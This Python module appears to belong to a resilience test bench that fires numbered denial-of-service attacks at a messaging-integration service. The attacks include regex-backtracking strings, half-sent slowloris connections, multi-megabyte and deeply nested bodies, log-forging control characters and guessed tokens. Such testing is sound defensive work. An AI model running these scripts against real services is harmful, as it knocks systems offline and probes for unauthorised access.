"""The attacker's rows: one function plays a row of the table once, as it was measured when it stopped everybody.

`fire(pieces)` sends one request and waits for its answer. Bodies differ from round to round where a repetition would be cheap.
"""

from __future__ import annotations

import asyncio
import json
import secrets
from collections.abc import Awaitable, Callable, Iterable
from contextlib import suppress
from urllib.parse import quote, urlsplit

from bench.siege.targets import Target
from bench.siege.wire import Reply, get, head, post

KB, MB = 1024, 1024 * 1024
JSON = "application/json"
Fire = Callable[[Iterable[bytes]], Awaitable[Reply]]
Row = Callable[[Target, Fire], Awaitable[None]]
HALF_SENT_S = 20.0


async def quadratic_webhooks(target: Target, fire: Fire) -> None:
    """1: bodies of many entries that are no objects."""
    sizes = [80 * KB] * 2 + [260 * KB] * 2 + [2 * MB] * 16
    await asyncio.gather(*(fire(post(target.hook, _numbers(size), JSON)) for size in sizes))


def _numbers(size: int) -> bytes:
    return b"[%d" % secrets.randbelow(10**9) + b",0" * (size // 2) + b"]"


async def backtracking_patterns(target: Target, fire: Fire) -> None:
    """2: what made the masking of log lines backtrack, in paths and in a provider's code."""
    odd = "=" + "a-" * 2000
    failed = {"code": "=" + "a-" * 20_000, "reason": odd}
    event = {"type": "failed", "id": secrets.token_hex(8), "destination": "79120000001", "payload": failed}
    body = json.dumps({"app": "x", "type": "message-event", "payload": event}).encode()
    paths = (fire(get(f"{target.url}/{odd}")) for _ in range(12))
    await asyncio.gather(*paths, *(fire(post(target.hook, body, JSON)) for _ in range(2)))


async def numbers_of_one_field(target: Target, fire: Fire) -> None:
    """3: 150,000 numbers in a robot's phone, and as many as one call may hold; the settings page's check likewise."""
    page = {"X-Waba24-Frame": target.token}
    for count in (150_000, 4_500):
        phone = ",".join(str(79120000000 + number) for number in range(count))
        await fire(post(target.text.url, target.text.again(phone=phone)))
        asked = {"side": "robots", "action": "send_text", "values": {"text": "x", "phone": phone}}
        await fire(post(f"{target.url}/settings/check", json.dumps(asked).encode(), JSON, page))


async def slow_portals(target: Target, fire: Fire) -> None:
    """4: two portals that answer one byte a second: 14 frames, and 20 file robots each."""
    for _, call in target.slow:
        await asyncio.gather(*(fire(post(call.url, call.again())) for _ in range(20)))
    await asyncio.gather(
        *(fire(post(frame.url(target.url), frame.body())) for frame, _ in target.slow for _ in range(7))
    )


async def escaped_forms(target: Target, fire: Fire) -> None:
    """5: forms of four megabytes of %41, as the POST of a page and of a robot."""
    piece = b"%41" * (64 * KB // 3)
    count = 4 * MB // len(piece) - 1
    for url in (target.frame.url(target.url), target.text.url):
        form = [head("POST", url, 2 + count * len(piece)), b"a=", *[piece] * count]
        await asyncio.gather(*(fire(form) for _ in range(16)))


async def unknown_secret(target: Target, fire: Fire) -> None:
    """6: 63 MB to a webhook address that nobody has."""
    url = f"{target.url}/gupshup/{secrets.token_hex(16)}"
    piece = b"x" * MB
    await asyncio.gather(*(fire([head("POST", url, 63 * MB, JSON), *[piece] * 63]) for _ in range(2)))


async def formatting_marks(target: Target, fire: Fire) -> None:
    """7: a page that shows a text full of unclosed formatting marks."""
    page = get(f"{target.url}{target.marked}", {"X-Waba24-Frame": target.token})
    await asyncio.gather(*(fire(page) for _ in range(16)))


async def swollen_answers(target: Target, fire: Fire) -> None:
    """8: a portal that answers 16 MB of empty lists, to pages and to robots that need a card of the CRM."""
    frame, call = target.swollen
    await asyncio.gather(*(fire(post(call.url, call.again(phone=""))) for _ in range(8)))
    await asyncio.gather(*(fire(post(frame.url(target.url), frame.body())) for _ in range(8)))


async def without_limit(target: Target, fire: Fire) -> None:
    """9: a hundred calls at once, files, and frames whose tokens nobody has issued."""
    files = (fire(post(target.document.url, target.document.again(file=f"{target.file}/{n}"))) for n in range(5))
    calls = (fire(post(target.text.url, target.text.again(text="x" * 4000))) for _ in range(100))
    forged = (
        fire(post(target.frame.url(target.url), target.frame.body(AUTH_ID=secrets.token_hex(35)))) for _ in range(10)
    )
    await asyncio.gather(*files, *calls, *forged)


async def half_sent_bodies(target: Target, fire: Fire) -> None:
    """11: 17 bodies of which half is sent; the connections stay open."""
    await asyncio.gather(*(_half_sent(target) for _ in range(17)))


async def _half_sent(target: Target) -> None:
    parts = urlsplit(target.text.url)
    with suppress(OSError):
        reader, writer = await asyncio.open_connection(parts.hostname, parts.port)
        try:
            body = target.text.again()
            writer.write(head("POST", target.text.url, len(body)) + body[: len(body) // 2])
            with suppress(asyncio.TimeoutError):
                await asyncio.wait_for(reader.read(1), HALF_SENT_S)
        finally:
            writer.close()


async def impossible_lifetime(target: Target, fire: Fire) -> None:
    """12: a token that is said to live for three billion years."""
    ages = str(10**17)
    await fire(post(target.frame.url(target.url), target.frame.body(AUTH_EXPIRES=ages)))
    await fire(post(target.text.url, target.text.with_fields({"auth[expires_in]": ages, "auth[expires]": ages})))


async def control_characters(target: Target, fire: Fire) -> None:
    """13: what would erase or forge a line of a text log."""
    for character in ("\x1b[2K", "\r", "\n", "\u2028", "\x00"):
        await fire(get(f"{target.url}/{quote(character)}forged%20line"))


async def metrics_behind_a_proxy(target: Target, fire: Fire) -> None:
    """16: /metrics, as a proxy on the same machine hands a stranger's request on."""
    for name in ("X-Real-IP", "Forwarded", "Via"):
        reply = await fire(get(f"{target.url}/metrics", {name: "for=203.0.113.7"}))
        assert reply.status != 200, f"/metrics is open to {name}"


async def programs(target: Target, fire: Fire) -> None:
    """17: a program that asks long questions and sends long bodies as fast as it can, and one that guesses tokens."""
    known = {"Authorization": f"Bearer {target.api}"}
    former = {"OLChat-Api-Token": target.api}
    asked = (
        "campaigns?limit=200",
        "reports/messages?group_by=day,line,template&since=2025-11-01",
        "messages?limit=200",
    )
    long = json.dumps({"recipients": [{"phone": "нет"}] * 1000}).encode()
    deep = b'{"type":' + b"[" * 100_000
    history = json.dumps({"line_number": target.line, "date_from": "2026-09-01", "date_to": "2026-11-30"}).encode()
    calls = [get(f"{target.url}/api/v1/{path}", known) for path in asked for _ in range(8)]
    calls += [post(f"{target.url}/api/v1/campaigns/x/recipients", long, JSON, known) for _ in range(4)]
    calls += [post(f"{target.url}/api/v1/messages", deep, JSON, known) for _ in range(4)]
    calls += [
        post(f"{target.url}/rest/client/v2/{method}/", history, JSON, former)
        for method in ("messages.history.list", "messages.stats.get", "templates.analytics.get")
        for _ in range(4)
    ]
    calls += [get(f"{target.url}/api/v1/lines", {"Authorization": f"Bearer waba24_{secrets.token_hex(20)}"})] * 10
    await asyncio.gather(*(fire(call) for call in calls))


async def loaded_files(target: Target, fire: Fire) -> None:
    """18: a megabyte of what looks like phones, and the whole list as files, all at once."""
    mark = secrets.token_hex(16)
    page = {"X-Waba24-Frame": target.token}
    head_ = f'--{mark}\r\nContent-Disposition: form-data; name="file"; filename="x.csv"\r\n\r\n'.encode()
    body = head_ + b"1234567;" * (MB // 8 - 100) + f"\r\n--{mark}--\r\n".encode()
    kind = f"multipart/form-data; boundary={mark}"
    loads = (fire(post(f"{target.url}/app/opt-outs/import", body, kind, page)) for _ in range(6))
    files = ("opt-outs.csv", "messages.csv", "reports.xlsx", "prices.csv")
    made = (fire(post(f"{target.url}/app/{name}", b"period=all", headers=page)) for name in files for _ in range(2))
    await asyncio.gather(*loads, *made)


async def dripping_receivers(target: Target, fire: Fire) -> None:
    """19: five webhooks whose receivers answer one byte a second, with events for each of them."""
    known = {"Authorization": f"Bearer {target.api}"}
    tests = (post(f"{target.url}/api/v1/webhooks/{key}/test", b"", JSON, known) for key in target.receivers)
    await asyncio.gather(*(fire(call) for call in tests))


#: By the numbers of the table; 10 is what 9 leads to, 14 and 15 need an account on the machine. From 17 on: later doors.
ROWS: dict[str, Row] = {
    "1": quadratic_webhooks,
    "2": backtracking_patterns,
    "3": numbers_of_one_field,
    "4": slow_portals,
    "5": escaped_forms,
    "6": unknown_secret,
    "7": formatting_marks,
    "8": swollen_answers,
    "9": without_limit,
    "11": half_sent_bodies,
    "12": impossible_lifetime,
    "13": control_characters,
    "16": metrics_behind_a_proxy,
    "17": programs,
    "18": loaded_files,
    "19": dripping_receivers,
}
